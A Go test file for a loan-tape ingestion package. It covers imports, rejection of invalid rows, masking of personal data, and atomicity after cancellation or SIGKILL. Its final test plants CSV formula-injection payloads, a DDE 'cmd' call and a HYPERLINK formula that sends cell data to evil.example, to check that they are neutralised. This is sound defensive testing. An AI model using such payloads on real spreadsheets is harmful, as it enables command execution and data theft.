package ingest_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"reclaim"
	"reclaim/csvsafe"
	"reclaim/date"
	"reclaim/ingest"
	"reclaim/pii"
	"reclaim/sqldb"
	"reclaim/sqldb/sqldbtest"
	"reclaim/synth"
	"reclaim/tape"
)

// writeTape generates a synthetic tape (and history) into dir.
func writeTape(t *testing.T, dir string, loans int, invalid map[string]float64, opts synth.TapeOptions) (tapePath, histPath string, st synth.Stats) {
	t.Helper()
	cfg := synth.Config{Seed: 11, Loans: loans, PortfolioRef: "PKG-T", Seller: "Test Bank", CutOff: date.Of(2025, 6, 30),
		Profile: synth.BankMixed, Invalid: invalid}
	tapePath, histPath = filepath.Join(dir, "tape.csv"), filepath.Join(dir, "history.csv")
	if opts.Format == "xlsx" {
		tapePath = filepath.Join(dir, "tape.xlsx")
	}
	tf, err := os.Create(tapePath)
	if err != nil {
		t.Fatal(err)
	}
	hf, err := os.Create(histPath)
	if err != nil {
		t.Fatal(err)
	}
	opts.IncludePersonal = true
	st, err = synth.WriteTape(context.Background(), cfg, tf, hf, opts, nil)
	if err != nil {
		t.Fatal(err)
	}
	tf.Close()
	hf.Close()
	return tapePath, histPath, st
}

func keyring(t *testing.T) *pii.Keyring {
	t.Helper()
	k, err := pii.LoadKey(pii.KeyOptions{DevDir: t.TempDir(), AllowDev: true})
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func countLoans(t *testing.T, db *sqldb.DB, id int64) int {
	t.Helper()
	n := 0
	if err := db.StreamLoans(context.Background(), id, func(*reclaim.Loan) error { n++; return nil }); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestImportRoundTrip(t *testing.T) {
	sqldbtest.ForEachEngine(t, func(t *testing.T, db *sqldb.DB) {
		ctx := context.Background()
		for _, opts := range []synth.TapeOptions{
			{},
			{Chinese: true, Encoding: "gbk", DateStyle: "chinese"},
			{Format: "xlsx", Chinese: true},
		} {
			dir := t.TempDir()
			tp, hp, st := writeTape(t, dir, 400, nil, opts)
			rep, err := ingest.Run(ctx, db.IngestStore(), keyring(t), tp, ingest.Options{HistoryPath: hp, SellerName: "Test Bank"})
			if err != nil {
				t.Fatalf("%+v: %v (%s)", opts, err, rep.Message)
			}
			if rep.Rows != 400 || rep.Imported != 400 || rep.Rejected != 0 || rep.Status != ingest.StatusImported {
				t.Fatalf("report %+v", rep)
			}
			if got := countLoans(t, db, rep.PortfolioID); got != 400 {
				t.Errorf("stored %d loans", got)
			}
			if rep.History == nil || rep.History.Imported != int64(st.HistoryRows) || rep.History.Rejected != 0 {
				t.Errorf("history %+v, generated %d rows", rep.History, st.HistoryRows)
			}
			if rep.Header == nil || rep.Header.Claim != st.TotalClaim || rep.Header.Loans != 400 {
				t.Errorf("header claim %v, generated %v", rep.Header.Claim, st.TotalClaim)
			}
			p, err := db.GetPortfolio(ctx, rep.PortfolioID)
			if err != nil || p.LoanCount != 400 || p.TotalClaim != st.TotalClaim || p.ContentHash != rep.ContentHash {
				t.Errorf("portfolio %+v %v", p, err)
			}
		}
	})
}

func TestImportAllOrNothing(t *testing.T) {
	sqldbtest.ForEachEngine(t, func(t *testing.T, db *sqldb.DB) {
		ctx := context.Background()
		dir := t.TempDir()
		inv := map[string]float64{"claim_sum": 0.02, "national_id": 0.02, "date_format": 0.01, "loan_id_unique": 0.01}
		tp, _, st := writeTape(t, dir, 600, inv, synth.TapeOptions{})
		corrupted := 0
		for _, n := range st.Corrupted {
			corrupted += n
		}
		rejects := filepath.Join(dir, "rejects.csv")
		rep, err := ingest.Run(ctx, db.IngestStore(), keyring(t), tp, ingest.Options{RejectsPath: rejects})
		if reclaim.ErrorCode(err) != reclaim.EINVALID || rep.Status != ingest.StatusRejected {
			t.Fatalf("want a rejected tape, got %v %+v", err, rep.Status)
		}
		if rep.Rows != 600 || rep.Imported != 0 || rep.Rejected != 600 || rep.Invalid != int64(corrupted) || rep.Valid+rep.Invalid != rep.Rows {
			t.Errorf("counts: rows %d imported %d rejected %d valid %d invalid %d (corrupted %d)", rep.Rows, rep.Imported, rep.Rejected, rep.Valid, rep.Invalid, corrupted)
		}
		for _, rc := range rep.ByRule {
			if int64(st.Corrupted[rc.Rule]) != rc.Rows {
				t.Errorf("rule %s: %d rows reported, %d injected", rc.Rule, rc.Rows, st.Corrupted[rc.Rule])
			}
		}
		ps, err := db.ListPortfolios(ctx)
		if err != nil || len(ps) != 0 {
			t.Fatalf("a rejected tape left portfolios behind: %v %v", ps, err)
		}
		checkRejects(t, tp, rejects, corrupted)

		// --skip-invalid imports the rest; the counts still add up.
		rep, err = ingest.Run(ctx, db.IngestStore(), keyring(t), tp, ingest.Options{SkipInvalid: true, RejectsPath: rejects})
		if err != nil {
			t.Fatal(err)
		}
		if rep.Imported != int64(600-corrupted) || rep.Rejected != int64(corrupted) || rep.Imported+rep.Rejected != rep.Rows {
			t.Errorf("skip-invalid counts %d + %d of %d", rep.Imported, rep.Rejected, rep.Rows)
		}
		if got := countLoans(t, db, rep.PortfolioID); got != 600-corrupted {
			t.Errorf("stored %d loans, want %d", got, 600-corrupted)
		}
		checkRejects(t, tp, rejects, corrupted)

		// The same bytes again: refused, nothing duplicated.
		again, err := ingest.Run(ctx, db.IngestStore(), keyring(t), tp, ingest.Options{SkipInvalid: true})
		if reclaim.ErrorCode(err) != reclaim.ECONFLICT || again.PortfolioID != rep.PortfolioID {
			t.Errorf("re-import: %v, portfolio %d", err, again.PortfolioID)
		}
		if ps, _ := db.ListPortfolios(ctx); len(ps) != 1 {
			t.Errorf("re-import created a portfolio: %d portfolios", len(ps))
		}
	})
}

// checkRejects: the rejects file holds every invalid row with reasons: its personal cells masked
// (no personal value of the tape appears anywhere in the row), every other cell unchanged but for
// formula neutralisation.
func checkRejects(t *testing.T, tapePath, rejectsPath string, want int) {
	t.Helper()
	orig := readCSV(t, tapePath)
	rej := readCSV(t, rejectsPath)
	layout, err := tape.NewLayout(orig[0], nil)
	if err != nil {
		t.Fatal(err)
	}
	personal := map[int]tape.Field{}
	for i, b := range layout.Bindings {
		if b != nil && b.Column >= 0 && tape.Fields[i].Personal {
			personal[b.Column] = tape.Field(i)
		}
	}
	if len(personal) < 3 {
		t.Fatalf("the test tape has %d personal columns; want name, ID and phone at least", len(personal))
	}
	if len(rej)-1 != want {
		t.Fatalf("rejects file has %d rows, want %d", len(rej)-1, want)
	}
	n := len(orig[0])
	if !slices.Equal(rej[0][:n], orig[0]) || !slices.Equal(rej[0][n:], []string{"_line", "_rules", "_errors"}) {
		t.Fatalf("rejects header %v", rej[0])
	}
	byLine := map[string][]string{}
	for _, r := range rej[1:] {
		byLine[r[n]] = r
	}
	for i, r := range orig[1:] {
		line := strconv.Itoa(i + 2) // header is line 1; no embedded newlines in synthetic tapes
		if got, ok := byLine[line]; ok {
			for c := range r {
				wantCell := csvsafe.Cell(r[c])
				if f, ok := personal[c]; ok {
					wantCell = tape.MaskCell(f, r[c])
					if v := strings.TrimSpace(r[c]); len([]rune(v)) > 2 && strings.Contains(strings.Join(got, ","), v) {
						t.Errorf("line %s: personal %s %q in clear in the rejects file", line, tape.Fields[f].Name, v)
					}
				}
				if got[c] != wantCell {
					t.Errorf("line %s column %s: %q in the rejects file, want %q", line, orig[0][c], got[c], wantCell)
				}
			}
			if got[n+1] == "" || got[n+2] == "" {
				t.Errorf("line %s has no reasons", line)
			}
		}
	}
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	br := bufio.NewReader(f)
	if b, _ := br.Peek(3); string(b) == "\ufeff" {
		br.Discard(3)
	}
	rows, err := csv.NewReader(br).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestImportMissingColumns(t *testing.T) {
	sqldbtest.ForEachEngine(t, func(t *testing.T, db *sqldb.DB) {
		path := filepath.Join(t.TempDir(), "thin.csv")
		os.WriteFile(path, []byte("loan_id,principal_outstanding\nL1,100.00\n"), 0o600)
		rep, err := ingest.Run(context.Background(), db.IngestStore(), keyring(t), path, ingest.Options{})
		if reclaim.ErrorCode(err) != reclaim.EINVALID || !slices.Contains(rep.Missing, "cut_off_date") || rep.Rejected != rep.Rows {
			t.Errorf("missing columns: %v %+v", err, rep)
		}
	})
}

func TestImportCancelledLeavesNothing(t *testing.T) {
	sqldbtest.ForEachEngine(t, func(t *testing.T, db *sqldb.DB) {
		tp, _, _ := writeTape(t, t.TempDir(), 3000, nil, synth.TapeOptions{})
		ctx, cancel := context.WithCancel(context.Background())
		rep, err := ingest.Run(ctx, db.IngestStore(), keyring(t), tp, ingest.Options{BatchSize: 100,
			Progress: func(rows, _, _ int64) {
				if rows >= 2000 {
					cancel()
				}
			}})
		if reclaim.ErrorCode(err) != reclaim.ECANCELED || rep.Imported != 0 {
			t.Fatalf("cancel: %v %+v", err, rep)
		}
		if ps, _ := db.ListPortfolios(context.Background()); len(ps) != 0 {
			t.Errorf("a cancelled import left %d portfolios", len(ps))
		}
	})
}

// TestImportKilledLeavesNothing runs an import in a child process, kills it with SIGKILL while it
// is writing, and checks that the database holds no trace of it.
func TestImportKilledLeavesNothing(t *testing.T) {
	if os.Getenv("RECLAIM_KILL_CHILD") != "" {
		return // the child half runs in TestKillChild
	}
	sqldbtest.ForEachEngineDSN(t, func(t *testing.T, dsn string) {
		db := sqldbtest.Open(t, dsn) // migrates
		tp, _, _ := writeTape(t, t.TempDir(), 20000, nil, synth.TapeOptions{})
		cmd := exec.Command(os.Args[0], "-test.run=^TestKillChild$", "-test.v")
		cmd.Env = append(os.Environ(), "RECLAIM_KILL_CHILD=1", "RECLAIM_KILL_DSN="+dsn, "RECLAIM_KILL_TAPE="+tp,
			"RECLAIM_KILL_KEYDIR="+t.TempDir())
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		cmd.Stderr = os.Stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(out)
		deadline := time.AfterFunc(60*time.Second, func() { cmd.Process.Kill() })
		defer deadline.Stop()
		killed := false
		for sc.Scan() {
			if strings.HasPrefix(sc.Text(), "WRITING") {
				cmd.Process.Signal(syscall.SIGKILL)
				killed = true
				break
			}
		}
		cmd.Wait()
		if !killed {
			t.Fatal("the child never reported writing")
		}
		ps, err := db.ListPortfolios(context.Background())
		if err != nil || len(ps) != 0 {
			t.Fatalf("after SIGKILL: %d portfolios (%v)", len(ps), err)
		}
		// The same tape imports cleanly afterwards: nothing half-written blocks it.
		rep, err := ingest.Run(context.Background(), db.IngestStore(), keyring(t), tp, ingest.Options{})
		if err != nil || rep.Imported != 20000 {
			t.Fatalf("re-import after the kill: %v %+v", err, rep.Message)
		}
	})
}

// TestKillChild is the child half of TestImportKilledLeavesNothing.
func TestKillChild(t *testing.T) {
	if os.Getenv("RECLAIM_KILL_CHILD") == "" {
		t.Skip("child process of TestImportKilledLeavesNothing")
	}
	db, err := sqldb.Open(context.Background(), os.Getenv("RECLAIM_KILL_DSN"), sqldb.Options{})
	if err != nil {
		t.Fatal(err)
	}
	k, err := pii.LoadKey(pii.KeyOptions{DevDir: os.Getenv("RECLAIM_KILL_KEYDIR"), AllowDev: true})
	if err != nil {
		t.Fatal(err)
	}
	ingest.Run(context.Background(), db.IngestStore(), k, os.Getenv("RECLAIM_KILL_TAPE"), ingest.Options{BatchSize: 500,
		Progress: func(rows, _, _ int64) {
			if rows >= 10000 {
				os.Stdout.WriteString("WRITING\n")
				time.Sleep(10 * time.Second) // hold the open transaction until killed
			}
		}})
	t.Fatal("the child was not killed")
}

// TestLendingClubMapping imports the real LendingClub file through the shipped mapping.
func TestLendingClubMapping(t *testing.T) {
	const data = "../../shared/data/lendingclub/chargedoff_dev.csv"
	if _, err := os.Stat(data); err != nil {
		t.Skip("LendingClub data not present")
	}
	m, err := tape.LoadMapping("../mappings/lendingclub.yaml")
	if err != nil {
		t.Fatal(err)
	}
	sqldbtest.ForEachEngine(t, func(t *testing.T, db *sqldb.DB) {
		rep, err := ingest.Run(context.Background(), db.IngestStore(), nil, data, ingest.Options{Mapping: m})
		if err != nil {
			t.Fatalf("%v: %s %+v", err, rep.Message, rep.ByRule)
		}
		if rep.Rows != 4481 || rep.Imported != 4481 || rep.Rejected != 0 {
			t.Fatalf("rows %d imported %d rejected %d", rep.Rows, rep.Imported, rep.Rejected)
		}
		var withExtras, usd int
		db.StreamLoans(context.Background(), rep.PortfolioID, func(l *reclaim.Loan) error {
			if l.Extras["grade"] != "" && l.Extras["recoveries"] != "" {
				withExtras++
			}
			if l.Currency == "USD" && strings.HasPrefix(l.RegionCode, "US-") {
				usd++
			}
			return nil
		})
		if withExtras != int(rep.Imported) || usd != int(rep.Imported) {
			t.Errorf("extras on %d, USD/US- region on %d of %d loans", withExtras, usd, rep.Imported)
		}
	})
}

// TestRejectsNeutraliseFormulas: a tape whose cells are formulas (in a mapped amount column that
// makes the row invalid, in the header, and in an unmapped column) yields a rejects file in which
// no cell starts a formula, a plain negative number stays as it was, and the personal cells of the
// rejected rows are masked. No database is involved (a dry run).
func TestRejectsNeutraliseFormulas(t *testing.T) {
	dir := t.TempDir()
	tp, _, _ := writeTape(t, dir, 20, nil, synth.TapeOptions{})
	rows := readCSV(t, tp)
	layout, err := tape.NewLayout(rows[0], nil)
	if err != nil {
		t.Fatal(err)
	}
	claim := layout.Bindings[tape.FTotalClaim].Column
	idCol := layout.Bindings[tape.FNationalID].Column
	rows[0] = append(rows[0], "=cmd|' /C calc'!A0")
	for i := 1; i < len(rows); i++ {
		rows[i] = append(rows[i], `=HYPERLINK("http://evil.example/?"&A1,"x")`)
	}
	rows[1][claim] = "-1+cmd|' /C calc'!A0" // invalid amount: the row is rejected
	rows[2][claim] = "-5.00"                // a negative claim: rejected by the rules, still a number
	id1 := rows[1][idCol]
	bad := filepath.Join(dir, "bad.csv")
	f, _ := os.Create(bad)
	w := csv.NewWriter(f)
	w.WriteAll(rows)
	f.Close()
	rejects := filepath.Join(dir, "rejects.csv")
	rep, err := ingest.Run(context.Background(), nil, nil, bad, ingest.Options{DryRun: true, RejectsPath: rejects})
	if err == nil || rep.Invalid < 2 {
		t.Fatalf("want the two rows rejected: %v %+v", err, rep)
	}
	raw, _ := os.ReadFile(rejects)
	if strings.Contains(string(raw), id1) {
		t.Errorf("the rejects file holds a national ID in clear")
	}
	rej := readCSV(t, rejects)
	for i, r := range rej {
		for j, c := range r {
			if csvsafe.Risky(c) {
				t.Errorf("rejects row %d column %d is a live formula: %q", i, j, c)
			}
		}
	}
	if rej[0][len(rows[0])-1] != "'=cmd|' /C calc'!A0" {
		t.Errorf("header cell %q", rej[0][len(rows[0])-1])
	}
	byLine := map[string][]string{}
	for _, r := range rej[1:] {
		byLine[r[len(rows[0])]] = r
	}
	if r := byLine["2"]; r == nil || r[claim] != "'-1+cmd|' /C calc'!A0" || r[idCol] != tape.MaskCell(tape.FNationalID, id1) {
		t.Errorf("line 2 in the rejects file: %q", r)
	}
	if r := byLine["3"]; r == nil || r[claim] != "-5.00" {
		t.Errorf("line 3 in the rejects file: %q", r)
	}
}
